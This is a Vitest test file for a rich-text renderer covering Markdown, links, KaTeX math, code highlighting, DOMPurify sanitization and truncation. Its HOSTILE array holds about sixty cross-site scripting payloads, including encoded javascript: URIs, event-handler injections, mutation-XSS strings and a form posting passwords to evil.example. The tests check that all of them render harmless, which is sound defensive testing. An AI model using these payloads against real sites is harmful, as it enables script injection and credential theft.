/**
 * The rich-text renderer (src/client/ui/rich-text): Markdown through markdown-it, links by the
 * pattern of src/shared/links.ts, math by KaTeX (loaded only for a text with math), fenced code
 * through highlightToHtml, everything sanitized by DOMPurify, and the cut on rendered content.
 */
import { describe, expect, it, vi } from 'vitest';
import { textLength } from '../../src/shared/text-length.ts';
import { withCountedSegmenters } from './fixtures.ts';
import { cutRendered } from '../../src/client/ui/rich-text/cut.ts';
import { isSafeHref, isSafeImageSrc } from '../../src/client/ui/rich-text/safe-urls.ts';
import { renderRichText } from '../../src/client/ui/rich-text/renderer.ts';
import { isInternalHref, sanitizeHtml } from '../../src/client/ui/rich-text/sanitize.ts';

/** Counts how often KaTeX's chunk is loaded (the real module still loads). */
const katexLoads = vi.hoisted(() => ({ count: 0 }));
vi.mock('../../src/client/ui/rich-text/katex.ts', async (importOriginal) => {
  katexLoads.count += 1;
  return importOriginal();
});

function dom(html: string): HTMLDivElement {
  const box = document.createElement('div');
  box.innerHTML = html;
  return box;
}

async function rendered(text: string): Promise<HTMLDivElement> {
  return dom((await renderRichText(text)).html);
}

/** What may appear in rendered output: Markdown's tags, KaTeX's spans, SVG and MathML. */
const ALLOWED_ELEMENTS = new Set([
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'ul', 'ol', 'li', 'strong', 'em', 's', 'code',
  'pre', 'a', 'img', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'div', 'span', 'svg', 'path', 'line', 'math',
  'semantics', 'annotation', 'mrow', 'mi', 'mn', 'mo', 'ms', 'mtext', 'mspace', 'msup', 'msub', 'msubsup', 'mfrac',
  'mroot', 'msqrt', 'mover', 'munder', 'munderover', 'mtable', 'mtr', 'mtd', 'mstyle', 'mpadded', 'mphantom',
  'menclose',
]);

/**
 * Nothing in `html` can run a script, load a foreign resource, submit, frame, redirect, style the
 * page or point anywhere but http(s) and this origin's paths.
 */
function expectHarmless(html: string, input: string): void {
  const box = dom(html);
  for (const element of box.querySelectorAll('*')) {
    const name = element.localName.toLowerCase();
    expect(ALLOWED_ELEMENTS.has(name), `<${name}> from ${input}`).toBe(true);
    for (const attribute of Array.from(element.attributes)) {
      const attr = attribute.name.toLowerCase();
      const value = attribute.value;
      const where = `${name}[${attr}="${value}"] from ${input}`;
      expect(attr.startsWith('on'), where).toBe(false);
      expect(['id', 'name', 'srcset', 'srcdoc', 'formaction', 'action', 'xlink:href', 'http-equiv', 'background', 'ping'], where).not.toContain(attr);
      expect(attr.startsWith('data-'), where).toBe(false);
      expect(value, where).not.toMatch(/^\s*(?:javascript|vbscript|data|file|blob)\s*:/i);
      if (attr === 'href') {
        expect(name, where).toBe('a');
        expect(value, where).toMatch(/^(?:https?:\/\/|\/(?![/\\]))/i);
      }
      if (attr === 'src') {
        expect(name, where).toBe('img');
        expect(isSafeImageSrc(value), where).toBe(true);
      }
      if (attr === 'style') expect(value, where).not.toMatch(/url\s*\(|expression|javascript|@import|position|\\/i);
      if (attr === 'target') {
        expect(value, where).toBe('_blank');
        expect(element.getAttribute('rel'), where).toBe('noopener noreferrer nofollow ugc');
      }
    }
  }
}

/** Posts as an attacker would write them. */
const HOSTILE: string[] = [
  '<script>window.__pwned = true</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.__pwned = true">',
  '<img src="/img/1" onload="window.__pwned = true">',
  '<svg onload="window.__pwned = true"><script>window.__pwned = true</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=true"><text x="0" y="20">x</text></a><animate onbegin="window.__pwned=true"/></svg>',
  '<style>body { display: none } @import url(https://evil.example/x.css);</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">covered</div>',
  '<iframe src="javascript:window.__pwned=true"></iframe><iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">登录</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=true">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:window.__pwned=true">点我</a>',
  '<a href="java&#115;cript:window.__pwned=true">点我</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">点我</a>',
  '<a href="JaVaScRiPt:window.__pwned=true">点我</a>',
  '<a href="//evil.example/phish">点我</a><a href="/\\evil.example/phish">点我</a><a href=" javascript:alert(1)">点我</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点我</a><a href="mailto:a@evil.example">点我</a>',
  '<img src="https://evil.example/pixel.png"><img src="data:image/png;base64,iVBORw0KGgo="><img src="/img/1" srcset="https://evil.example/x 2x">',
  '<p id="root" name="body" class="x" data-x="1" background="javascript:alert(1)">clobber</p>',
  '[点我](javascript:window.__pwned=true)',
  '[点我](JaVaScRiPt:window.__pwned=true)',
  '[点我](jav&#x61;script:window.__pwned=true)',
  '[点我](&#106;avascript:alert(1))',
  '[点我](java%73cript:alert(1))',
  '[点我](<javascript:alert(1)>)',
  '[点我]( javascript:alert(1) )',
  '[点我](vbscript:msgbox(1))',
  '[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[点我](DATA:text/html,<script>alert(1)</script>)',
  '[点我](file:///etc/passwd)',
  '[点我](//evil.example/phish)',
  '[点我](/\\evil.example/phish)',
  '[点我][1]\n\n[1]: javascript:window.__pwned=true',
  '<javascript:alert(1)> <data:text/html,hi>',
  '[x](https://example.com "title\\" onmouseover=\\"window.__pwned=true")',
  '![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![z](https://evil.example/pixel.png)',
  '![x](/img/../serv/v1/user/logout) ![y](/serv/v1/user/ticket/delete?ticket=1) ![z](/img/1" onerror="alert(1))',
  '<!-- --><script>window.__pwned=true</script> -->',
  '<!--><img src=x onerror="window.__pwned=true">-->',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=true">',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=true>">',
  '<svg><foreignObject><img src=x onerror="window.__pwned=true"></foreignObject></svg>',
  '$\\href{javascript:window.__pwned=true}{点我}$',
  '$$\\href{javascript:window.__pwned=true}{点我}$$',
  '$\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlClass{modal}{x}$ $\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlId{root}{x}$ $\\htmlData{pwned=1}{x}$',
  '$\\color{red;background:url(javascript:alert(1))}{x}$ $\\def\\a{\\a\\a}\\a$',
  '```html\n<script>window.__pwned=true</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|:-|\n| <img src=x onerror=alert(1)> |',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '<details open ontoggle="window.__pwned=true"><summary>x</summary></details>',
  '<a href="https://example.com/" target="_top" rel="opener">opener</a><a href="/home" target="_parent">in app</a>',
  '<math href="javascript:window.__pwned=true"><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/><image href="javascript:alert(1)"/></svg>',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<img src="/img/1" style="position:fixed;top:0;left:0;width:100vw;height:100vh">',
  '<video poster="javascript:alert(1)"><source src="x" onerror="window.__pwned=true"></video><audio src=x onerror="window.__pwned=true">',
  '<a href="\u0001javascript:alert(1)">ctl</a><a href="java\tscript:alert(1)">tab</a><a href="&#14;javascript:alert(1)">ent</a>',
];

describe('Markdown', () => {
  it('renders headings, lists, quotes, emphasis, code and tables', async () => {
    const box = await rendered('# 标题\n\n## 小节\n\n- 一\n- 二\n\n1. 甲\n2. 乙\n\n> 引用\n\n**粗** *斜* ~~删~~ `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(box.querySelector('h1')?.textContent).toBe('标题');
    expect(box.querySelector('h2')?.textContent).toBe('小节');
    expect([...box.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['一', '二']);
    expect([...box.querySelectorAll('ol > li')].map((li) => li.textContent)).toEqual(['甲', '乙']);
    expect(box.querySelector('blockquote p')?.textContent).toBe('引用');
    expect(box.querySelector('strong')?.textContent).toBe('粗');
    expect(box.querySelector('em')?.textContent).toBe('斜');
    expect(box.querySelector('s')?.textContent).toBe('删');
    expect(box.querySelector('p > code')?.textContent).toBe('code');
    expect(box.querySelectorAll('table td')).toHaveLength(2);
  });

  it('keeps line breaks as written', async () => {
    const box = await rendered('第一行\n第二行');
    expect(box.querySelector('p')?.innerHTML).toBe('第一行<br>\n第二行');
  });

  it('shows raw HTML as text, never as tags', async () => {
    const box = await rendered('<b>粗</b> <script>x</script>');
    expect(box.querySelector('b, script')).toBeNull();
    expect(box.textContent).toContain('<b>粗</b> <script>x</script>');
  });

  it('highlights fenced code with the code registry and escapes it', async () => {
    const box = await rendered('```js\nconst a = "<b>";\n```');
    const code = box.querySelector('pre code');
    expect(code?.querySelector('.tok-keyword')?.textContent).toBe('const');
    expect(code?.textContent).toBe('const a = "<b>";');
    expect(code?.querySelector('b')).toBeNull();
    const plain = await rendered('```nosuchlanguage\n<i>x</i>\n```');
    expect(plain.querySelector('pre code')?.textContent).toBe('<i>x</i>');
    expect(plain.querySelector('i')).toBeNull();
  });

  it('shows only this server\'s uploaded images; others read as their alt text', async () => {
    const box = await rendered('![图一](/img/12?w=300) ![外链](https://example.com/a.png)');
    const images = box.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]!.getAttribute('src')).toBe('/img/12?w=300');
    expect(images[0]!.getAttribute('alt')).toBe('图一');
    expect(box.textContent).toContain('外链');
  });
});

describe('links', () => {
  it('recognises bare http(s) links by the pattern of src/shared/links.ts, and nothing else', async () => {
    const box = await rendered('看 https://example.com/a?b=1#c。还有 http://example.org/x)、www.example.net、xhttps://glued.example、ftp://f.example 和 mail@example.com');
    expect([...box.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1#c', 'http://example.org/x']);
  });

  it('does not read emphasis, math or Chinese inside a link', async () => {
    const box = await rendered('**https://example.com/a_b_c** https://example.com/?p=$x$ https://example.com/路径');
    expect([...box.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a_b_c',
      'https://example.com/?p=$x$',
      'https://example.com/',
    ]);
    expect(box.querySelector('strong > a')).not.toBeNull();
    expect(box.querySelector('.katex')).toBeNull();
  });

  it('opens links off the provider\'s domain family in a new window with rel="noopener noreferrer nofollow ugc"', async () => {
    const box = await rendered('https://example.com/x [文字](https://evilgeekbang.org/) https://geekbang.org.evil.example/ <https://example.net>');
    const links = [...box.querySelectorAll('a')];
    expect(links).toHaveLength(4);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
    }
  });

  it('keeps links on the provider\'s domain family and in-app paths in the app', async () => {
    const box = await rendered('https://time.geekbang.org/column/intro/100 [InfoQ](https://www.infoq.cn/a) [站内](/message/detail/3) https://GEEKBANG.org/x');
    const links = [...box.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://time.geekbang.org/column/intro/100',
      'https://www.infoq.cn/a',
      '/message/detail/3',
      'https://GEEKBANG.org/x',
    ]);
    for (const link of links) expect(link.hasAttribute('target')).toBe(false);
    // User content all the same (search engines), but an in-app path is the app's own link.
    expect(links.map((a) => a.getAttribute('rel'))).toEqual(['nofollow ugc', 'nofollow ugc', null, 'nofollow ugc']);
  });

  it('classifies hrefs', () => {
    expect(isSafeHref('https://example.com')).toBe(true);
    expect(isSafeHref('/message/detail/1')).toBe(true);
    for (const bad of ['javascript:alert(1)', '//evil.example', '/\\evil.example', 'data:text/html,x', 'mailto:a@b.c', '']) {
      expect(isSafeHref(bad), bad).toBe(false);
    }
    expect(isInternalHref('/x', 'https://feed.example')).toBe(true);
    expect(isInternalHref('https://feed.example/message/detail/1', 'https://feed.example')).toBe(true);
    expect(isInternalHref('https://time.geekbang.org/', 'https://feed.example')).toBe(true);
    expect(isInternalHref('https://example.com/', 'https://feed.example')).toBe(false);
  });
});

describe('math', () => {
  it('renders no math and loads no KaTeX for a text without formulas', async () => {
    const box = await rendered('价格 $5 和 $10，转义 \\$x\\$，代码 `$y$`');
    expect(box.querySelector('.katex')).toBeNull();
    expect(box.textContent).toContain('价格 $5 和 $10');
    expect(box.querySelector('code')?.textContent).toBe('$y$');
    expect(katexLoads.count).toBe(0);
  });

  it('renders inline $...$ and block $$...$$ by KaTeX, loaded on demand', async () => {
    const box = await rendered('质能方程 $E=mc^2$ 很有名。\n\n$$\n\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}\n$$');
    expect(katexLoads.count).toBe(1);
    const inline = box.querySelector('p .katex');
    expect(inline?.querySelector('annotation')?.textContent).toBe('E=mc^2');
    expect(inline?.querySelector('.katex-html')).not.toBeNull();
    const block = box.querySelector('.rich-math-block .katex-display');
    expect(block?.querySelector('annotation')?.textContent).toBe('\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}');
  });

  it('keeps KaTeX\'s own output whole through the sanitizer (HTML, SVG, MathML)', async () => {
    const { renderMath } = await import('../../src/client/ui/rich-text/katex.ts');
    const tex = '\\sqrt{x} \\overrightarrow{AB} \\cancel{x} \\widehat{abc} \\color{red}{x} \\fbox{a} \\boxed{b} \\begin{pmatrix}1&2\\\\3&4\\end{pmatrix} \\xrightarrow{f} \\underbrace{a+b}_{c} \\not= \\mathbb{R} \\text{中文}';
    for (const display of [false, true]) {
      const raw = renderMath(tex, display);
      expect(raw).toContain('<svg');
      expect(dom(sanitizeHtml(raw)).innerHTML).toBe(dom(raw).innerHTML);
    }
  });

  it('never trusts the formula: no \\href, \\url, \\includegraphics or \\html* output, sizes capped, errors in place', async () => {
    const box = await rendered('$\\href{https://example.com}{a}$ $\\url{https://example.com}$ $\\includegraphics{/img/1}$ $\\htmlClass{x}{b}$ $\\rule{1000em}{1000em}$ $\\frac{$');
    expect(box.querySelector('a, img, .x')).toBeNull();
    expect(box.querySelector('.katex-rule')?.getAttribute('style')).toContain('border-right-width:10em');
    expect(box.querySelector('.katex-html')?.innerHTML).not.toContain('1000em');
    expect(box.querySelector('.katex-error, [style*="color:#cc0000"]')).not.toBeNull();
    expect(box.textContent).toContain('\\href');
  });
});

describe('hostile posts', () => {
  it.each(HOSTILE.map((input) => [input]))('renders %j harmless', async (input) => {
    const { html } = await renderRichText(input);
    expectHarmless(html, input);
  });

  it('shows what the attacker typed as text', async () => {
    const box = await rendered('<script>window.__pwned = true</script> [点我](javascript:alert(1))');
    expect(box.textContent).toContain('<script>window.__pwned = true</script>');
    expect(box.querySelector('a')).toBeNull();
  });

  /** The sanitizer on its own, as if the Markdown step had let raw HTML through. */
  it.each(HOSTILE.map((input) => [input]))('sanitizes raw HTML %j harmless', (input) => {
    expectHarmless(sanitizeHtml(input), input);
  });

  it('keeps what is safe in raw HTML and marks external links', () => {
    const box = dom(sanitizeHtml('<p>正文 <a href="https://example.com/" onclick="x()">外链</a> <a href="/home">站内</a></p>'));
    const [external, internal] = [...box.querySelectorAll('a')];
    expect(box.querySelector('p')?.textContent).toBe('正文 外链 站内');
    expect(external?.getAttribute('target')).toBe('_blank');
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
    expect(external?.hasAttribute('onclick')).toBe(false);
    expect(internal?.hasAttribute('target')).toBe(false);
  });

  it('replaces the target and rel an attacker wrote', () => {
    const box = dom(sanitizeHtml('<a href="https://example.com/" target="_top" rel="opener">外链</a><a href="/home" target="_parent" rel="opener">站内</a>'));
    const [external, internal] = [...box.querySelectorAll('a')];
    expect(external?.getAttribute('target')).toBe('_blank');
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
    expect(internal?.hasAttribute('target')).toBe(false);
    expect(internal?.hasAttribute('rel')).toBe(false);
  });
});

/** The length a reader sees: text by textLength, formulas by their TeX source. */
function shownLength(root: Element): number {
  let total = 0;
  const walk = (node: Node) => {
    if (node.nodeType === 3) total += textLength((node.textContent ?? '').replace(/\n/g, ''));
    else if (node instanceof Element && node.classList.contains('katex')) total += textLength(node.querySelector('annotation')?.textContent ?? '');
    else node.childNodes.forEach(walk);
  };
  walk(root);
  return total;
}

describe('the cut on rendered content', () => {
  const limits = { length: 150, lines: 6 };

  it('leaves a short text whole', async () => {
    const full = await renderRichText('短短的 **一段** $x$');
    const cut = await renderRichText('短短的 **一段** $x$', limits);
    expect(cut.cut).toBe(false);
    expect(cut.html).toBe(full.html);
  });

  it('cuts at 150 length units inside an element, closing it, with ...', async () => {
    const { html, cut } = await renderRichText(`**${'长'.repeat(100)}**`, limits);
    expect(cut).toBe(true);
    const box = dom(html);
    expect(box.querySelector('p > strong')?.textContent).toBe(`${'长'.repeat(75)}...`);
    expect(html).toBe(`<p><strong>${'长'.repeat(75)}...</strong></p>`);
  });

  it('never cuts inside a formula: a formula is kept whole or left out', async () => {
    for (let before = 60; before <= 80; before += 1) {
      const text = `${'长'.repeat(before)}$E=mc^2+\\frac{a}{b}$${'长'.repeat(40)}`;
      const { html, cut } = await renderRichText(text, limits);
      expect(cut).toBe(true);
      const box = dom(html);
      const formulas = box.querySelectorAll('.katex');
      expect(formulas.length).toBeLessThanOrEqual(1);
      if (formulas.length === 1) expect(formulas[0]!.querySelector('annotation')?.textContent).toBe('E=mc^2+\\frac{a}{b}');
      // Whole formulas only: nothing of KaTeX's markup is left without its .katex.
      expect(box.querySelectorAll('.katex-html, math').length).toBe(formulas.length * 2);
      expect(shownLength(box)).toBeLessThanOrEqual(150 + 3);
      expect(box.textContent?.endsWith('...')).toBe(true);
    }
  });

  it('cuts a link\'s text but keeps its target', async () => {
    const { html } = await renderRichText(`${'长'.repeat(70)}[${'链接文字'.repeat(10)}](https://example.com/x)`, limits);
    const link = dom(html).querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/x');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
    expect(link?.textContent).toBe('链接文字链...');
  });

  it('cuts after 6 lines: list items, paragraphs, line breaks and lines of code', async () => {
    const list = dom((await renderRichText('- 1\n- 2\n- 3\n- 4\n- 5\n- 6\n- 7\n- 8', limits)).html);
    expect([...list.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['1', '2', '3', '4', '5', '6...']);
    const lines = dom((await renderRichText('a\nb\nc\n\nd\ne\nf\ng\nh', limits)).html);
    expect(lines.textContent?.replace(/\n/g, '')).toBe('abcdef...');
    const code = dom((await renderRichText('说明\n\n```\n1\n2\n3\n4\n5\n6\n7\n```', limits)).html);
    expect(code.querySelector('pre code')?.textContent).toBe('1\n2\n3\n4\n5...');
  });

  it('cuts text with emoji without Intl.Segmenter, keeping an emoji whole at the cut', async () => {
    await withCountedSegmenters(() => import('../../src/client/ui/rich-text/cut.ts'), (fresh, made) => {
      const early = dom(`<p>“${'长'.repeat(10)}”，继续加油 💪</p>`);
      expect(fresh.cutRendered(early, { length: 20, lines: 6 })).toBe(true);
      expect(early.innerHTML).toBe(`<p>“${'长'.repeat(9)}...</p>`);
      expect(made()).toBe(0);
      const atEmoji = dom('<pre><code>12\n3👍🏽4</code></pre>');
      expect(fresh.cutRendered(atEmoji, { length: 6, lines: 6 })).toBe(true);
      expect(atEmoji.textContent).toBe('12\n3...');
      expect(made()).toBe(0);
      // A letter with a combining accent past a plain run needs one.
      const accents = dom(`<p>ab${'e\u0301'.repeat(5)}</p>`);
      expect(fresh.cutRendered(accents, { length: 4, lines: 6 })).toBe(true);
      expect(accents.textContent).toBe('abe\u0301...');
      expect(made()).toBe(1);
    });
  });

  it('prunes what the cut leaves empty', () => {
    const box = dom('<p>一二三</p><ul><li><strong>四五六</strong></li></ul>');
    expect(cutRendered(box, { length: 6, lines: 6 })).toBe(true);
    expect(box.innerHTML).toBe('<p>一二三...</p>');
  });
});
